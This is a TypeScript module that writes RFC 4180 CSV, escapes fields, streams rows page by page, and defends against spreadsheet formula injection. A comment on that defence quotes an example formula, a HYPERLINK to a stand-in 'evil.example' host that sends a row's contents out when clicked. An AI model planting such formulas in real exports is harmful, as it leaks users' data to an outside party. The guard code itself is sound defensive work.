import type { ColumnKind, Columns } from './types.js';

/**
 * RFC 4180: fields separated by commas, records by CRLF; a field holding a comma, a double quote, CR or LF
 * is enclosed in double quotes with each double quote doubled. null/undefined are empty fields; objects
 * (metadata) are their JSON text.
 */
export function csvField(v: unknown): string {
  if (v === null || v === undefined) return '';
  const s = typeof v === 'object' ? JSON.stringify(v) : String(v);
  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

/**
 * CSV injection (OWASP): a spreadsheet runs a cell that starts with =, +, -, @, tab or CR as a formula
 * (`=HYPERLINK("http://evil.example/?"&A2,"click")` sends the row away when clicked). Such a text cell gets a
 * leading `'`, which spreadsheets show as text and do not display. Only text columns: an amount, a count or
 * a time is written exactly as it is (a refund of -1.50 stays -1.50), and a value that does not look like its
 * column's kind is treated as text, so a column declared numeric by mistake cannot carry a formula either.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const LOOKS_LIKE: Record<Exclude<ColumnKind, 'text'>, RegExp> = {
  amount: /^-?\d+(\.\d+)?$/,
  integer: /^-?\d+$/,
  time: /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/,
};

export function csvCell(v: unknown, kind: ColumnKind): string {
  if (v === null || v === undefined) return '';
  const s = typeof v === 'object' ? JSON.stringify(v) : String(v);
  const plain = kind !== 'text' && LOOKS_LIKE[kind].test(s);
  return csvField(!plain && FORMULA_START.test(s) ? `'${s}` : s);
}

export function csvRow(columns: Columns, fields: readonly unknown[]): string {
  // A row that does not match its header is a bug here, never something to guess the kinds of.
  if (fields.length !== columns.length) throw new Error(`CSV row has ${fields.length} fields for ${columns.length} columns`);
  return `${fields.map((v, i) => csvCell(v, columns[i]![1])).join(',')}\r\n`;
}

/**
 * A CSV body streamed page by page: `next(after)` returns the next page of rows (already mapped to fields, in
 * the order of `columns`) and the position to continue after, or null when done. Only one page is in memory at
 * a time, and the next is read only when the consumer pulls (back-pressure from the HTTP response).
 */
export function csvStream<P>(columns: Columns, next: (after: P | null) => Promise<{ rows: unknown[][]; after: P | null }>): ReadableStream<Uint8Array> {
  const enc = new TextEncoder();
  const header = columns.map(([name]) => [name, 'text'] as const);
  let after: P | null = null;
  let started = false;
  return new ReadableStream<Uint8Array>({
    // Each pull enqueues something or closes: a pull that did neither would leave the reader waiting forever.
    async pull(controller) {
      if (!started) {
        started = true;
        controller.enqueue(enc.encode(csvRow(header, header.map(([name]) => name))));
        return;
      }
      for (;;) {
        const page = await next(after);
        after = page.after;
        if (page.rows.length > 0) controller.enqueue(enc.encode(page.rows.map((r) => csvRow(columns, r)).join('')));
        if (after === null) return controller.close();
        if (page.rows.length > 0) return;
      }
    },
  }, { highWaterMark: 1 });
}
